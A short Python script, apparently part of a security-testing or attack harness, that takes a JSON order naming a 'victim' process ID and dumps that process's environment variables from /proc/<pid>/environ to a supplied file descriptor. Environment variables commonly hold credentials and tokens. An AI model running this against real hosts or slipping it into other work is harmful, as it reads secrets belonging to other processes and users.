"""Reads the environment of a process of the host."""

import json
import os
import sys

order = json.loads(sys.argv[1])

with open(f"/proc/{order['victim']}/environ", "rb") as file:
    os.write(order["results"], file.read().replace(b"\0", b"\n"))
